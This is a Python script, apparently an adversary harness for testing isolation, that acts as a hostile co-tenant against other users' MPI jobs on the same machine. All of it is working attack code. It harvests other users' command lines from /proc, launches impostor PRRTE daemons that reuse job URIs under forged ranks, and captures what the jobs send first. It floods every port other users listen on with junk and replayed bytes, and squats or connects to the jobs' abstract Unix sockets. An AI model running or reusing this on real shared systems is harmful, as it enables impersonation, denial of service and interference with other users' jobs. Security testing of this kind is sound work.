"""Another user of a machine, who attacks the MPI jobs that run there. It needs the standard library alone.

Argument: the path of MPI's daemon. For each job that it finds in /proc, it starts real daemons with the
command line of the job's own. It connects to every port of another user again and again, says something or
nothing, and stays. It takes the names of Unix sockets of runs. It ends with its standard input, and then
prints what it has done and received, as JSON.
"""

import contextlib
import itertools
import json
import os
import re
import select
import shlex
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator

ROUND_S = 0.1
MAX_DAEMONS, DAEMON_S = 3, 5.0
"""At a time. A daemon that hangs is ended, to make room for the next."""
MAX_CONNECTIONS, MAX_RANKS = 400, 4
CONNECT_S = 0.5
URI, NUMBER, INTERFACE = "prte_hnp_uri", "ess_base_vpid", "prte_if_include"
LISTENING, SSH = "0A", 22


def command_lines() -> "Iterator[str]":
    """Yield the command lines of other users, with NUL behind each argument."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError, ValueError):
            if os.stat(f"/proc/{pid}").st_uid != os.getuid():
                with open(f"/proc/{pid}/cmdline") as file:
                    yield file.read()


def find_daemons() -> "dict[str, list[str]]":
    """Return the arguments of the daemon of each job, by the address of its mpirun."""
    jobs = {}
    for line in command_lines():
        words = line.split("\0")
        with contextlib.suppress(OSError, ValueError):
            if URI not in words and URI in line:  # part of a command for a shell
                words = shlex.split(line.replace("\0", " "))
            if URI in words and NUMBER in words:
                start = next(place for place, word in enumerate(words) if word.endswith("prted"))
                uri = words[words.index(URI) + 1]
                address_towards(uri)  # raises for jobs in other networks of this machine
                arguments = [word for word in words[start + 1 :] if word not in ("--daemonize", ")", "")]
                if INTERFACE in arguments:  # of the other machine
                    place = arguments.index(INTERFACE)
                    del arguments[place - 1 : place + 2]
                jobs[uri] = arguments
    return jobs


def address_towards(uri: str) -> str:
    """Return the address of this machine from which a job's mpirun is reached; raises OSError."""
    peer = uri.split("//")[1].partition(":")[0]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.connect((peer, 1))
        return str(datagrams.getsockname()[0])


def replace_after(words: "list[str]", name: str, value: str) -> "list[str]":
    place = words.index(name) + 1
    return [*words[:place], value, *words[place + 1 :]]


class Daemons:
    """Real daemons that pretend to belong to a job, under the numbers of its own and others."""

    def __init__(self, program: str) -> None:
        self.program = program
        self.running: list[tuple[float, subprocess.Popen[bytes]]] = []
        self.num_started = self.num_content = 0
        self.numbers = itertools.cycle(["1", "2", "3", "99", "0"])
        self.first_words: dict[str, bytes] = {}

    def attack(self) -> None:
        """Start as many as may run, and record what a daemon of each job says first."""
        for started, daemon in list(self.running):
            if time.monotonic() - started > DAEMON_S:
                daemon.kill()
                daemon.wait()
            if daemon.poll() is not None:
                self.num_content += daemon.returncode == 0
                self.running.remove((started, daemon))
        for uri, arguments in find_daemons().items():
            if len(self.running) < MAX_DAEMONS:
                daemon = self.start(replace_after(arguments, NUMBER, next(self.numbers)))
                self.running.append((time.monotonic(), daemon))
                self.num_started += 1
            if uri not in self.first_words:
                self.first_words[uri] = self.record(uri, arguments)

    def start(self, arguments: "list[str]") -> "subprocess.Popen[bytes]":
        null = subprocess.DEVNULL
        return subprocess.Popen([self.program, *arguments], stdin=null, stdout=null, stderr=null)

    def record(self, uri: str, arguments: "list[str]") -> bytes:
        """Return what a daemon of the job at `uri` sends first, from one that gets another address."""
        job, host = uri.partition(";")[0], address_towards(uri)
        with socket.create_server((host, 0)) as listening, contextlib.suppress(OSError):
            address = f"{job};tcp://{host}:{listening.getsockname()[1]}:24"
            daemon = self.start(replace_after(arguments, URI, address))
            try:
                listening.settimeout(DAEMON_S)
                connection, _ = listening.accept()
                connection.settimeout(DAEMON_S)
                with connection:
                    return connection.recv(1 << 16)
            finally:
                daemon.kill()
                daemon.wait()
        return b""


class Connections:
    """Connections to all ports of other users of this machine."""

    def __init__(self) -> None:
        self.open: list[socket.socket] = []
        self.num_made = self.num_refused = 0
        self.answers: list[str] = []
        self.contents = [b"", b"x", bytes(31), bytes(32), os.urandom(4096)]

    def attack(self) -> None:
        for host, port in find_ports():
            for content in self.contents:
                try:
                    connection = socket.create_connection((host, port), CONNECT_S)
                except OSError:
                    self.num_refused += 1
                    continue
                self.num_made += 1
                self.open.append(connection)
                connection.setblocking(False)
                with contextlib.suppress(OSError):
                    connection.send(content)
        self.look_for_answers()
        while len(self.open) > MAX_CONNECTIONS:
            self.open.pop(0).close()

    def look_for_answers(self) -> None:
        """Record what came on any connection. Connections that were closed are closed here too."""
        poll = select.poll()
        by_number = {connection.fileno(): connection for connection in self.open}
        for number in by_number:
            poll.register(number, select.POLLIN)
        for number, _ in poll.poll(0):
            connection = by_number[number]
            with contextlib.suppress(OSError):
                self.answers += [repr(received[:40])] if (received := connection.recv(4096)) else []
            connection.close()
            self.open.remove(connection)


def find_ports() -> "set[tuple[str, int]]":
    """Return addresses at which a port of another user of this machine is reached, SSH's excepted."""
    ports = set()
    for family, table in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        with contextlib.suppress(OSError), open(f"/proc/net/{table}") as file:
            for line in list(file)[1:]:
                _, local, _, state, _, _, _, user, *_ = line.split()
                packed, _, port = local.partition(":")
                if state == LISTENING and int(user) != os.getuid() and int(port, 16) != SSH:
                    words = struct.unpack(f">{len(packed) // 8}I", bytes.fromhex(packed))
                    host = socket.inet_ntop(family, struct.pack(f"={len(words)}I", *words))
                    ports.add(({"0.0.0.0": "127.0.0.1", "::": "::1"}.get(host, host), int(port, 16)))
    return ports


class Names:
    """Abstract Unix sockets of runs: taken before a rank can, and connected to where they are taken."""

    def __init__(self) -> None:
        self.open: dict[str, socket.socket] = {}

    def attack(self) -> None:
        runs = {run for line in command_lines() for run in re.findall(r"csdctl-run=([\w-]+)/", line)}
        for name in (f"csdctl/{run}/{rank}" for run in runs for rank in range(MAX_RANKS)):
            taken = socket.socket(socket.AF_UNIX)
            with contextlib.suppress(OSError):
                taken.bind("\0" + name)
                taken.listen()
                self.open[name] = taken
        with open("/proc/net/unix") as file:
            names = re.findall(r"@(csdctl/\S+)", file.read())
        for name in names:
            connecting = socket.socket(socket.AF_UNIX)
            connecting.setblocking(False)
            with contextlib.suppress(OSError):
                connecting.connect("\0" + name)
                self.open[f"to {name}"] = connecting


def main() -> None:
    """Attack until standard input ends; then print the result."""
    daemons, connections, names = Daemons(sys.argv[1]), Connections(), Names()
    is_over = threading.Event()

    def connect() -> None:
        while not is_over.wait(ROUND_S):
            connections.attack()

    thread = threading.Thread(target=connect)
    thread.start()
    while not select.select([sys.stdin], [], [], ROUND_S)[0]:
        names.attack()
        daemons.attack()
        connections.contents = [*connections.contents[:5], *daemons.first_words.values()]
    is_over.set()
    thread.join()
    for _, daemon in daemons.running:
        daemon.kill()
        daemon.wait()
    result = {
        "daemons": daemons.num_started,
        "daemons_that_were_content": daemons.num_content,
        "recorded_bytes": max(map(len, daemons.first_words.values()), default=0),
        "connections": connections.num_made,
        "refused": connections.num_refused,
        "answers": connections.answers[:3],
    }
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
